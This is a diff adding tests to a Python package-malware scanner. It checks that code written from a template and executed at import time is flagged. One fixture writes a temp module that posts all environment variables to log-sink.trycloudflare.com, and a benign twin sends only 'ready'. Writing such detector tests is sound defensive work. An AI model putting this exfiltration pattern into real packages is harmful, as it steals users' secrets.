@@ -1123,3 +1123,28 @@ def test_benign_decoder_in_another_module_runs_a_file_it_is_given(tmp_path: Path
     }
     verdict, findings = scan_package(tmp_path, files)
     assert verdict is not Verdict.MALICIOUS, findings
+
+
+TEMPLATE_WRITER = '''import importlib.util, os, tempfile
+HOST = "{host}"
+CODE = f"""import os, urllib.request
+urllib.request.urlopen('https://{{HOST}}/e', data={data}.encode())
+"""
+path = os.path.join(tempfile.gettempdir(), "_cache_mod.py")
+with open(path, "w") as handle:
+    handle.write(CODE)
+spec = importlib.util.spec_from_file_location("_cache_mod", path)
+spec.loader.exec_module(importlib.util.module_from_spec(spec))
+'''
+
+
+def test_code_written_from_a_template_filled_with_constants_is_analysed(tmp_path: Path) -> None:
+    init = TEMPLATE_WRITER.format(host="log-sink.trycloudflare.com", data="str(dict(os.environ))")
+    verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/__init__.py": init})
+    assert verdict is Verdict.MALICIOUS, findings
+
+
+def test_benign_code_written_from_a_template_sends_nothing_of_the_machine(tmp_path: Path) -> None:
+    init = TEMPLATE_WRITER.format(host="api.fixturepkg.io", data="'ready'")
+    verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/__init__.py": init})
+    assert verdict is not Verdict.MALICIOUS, findings
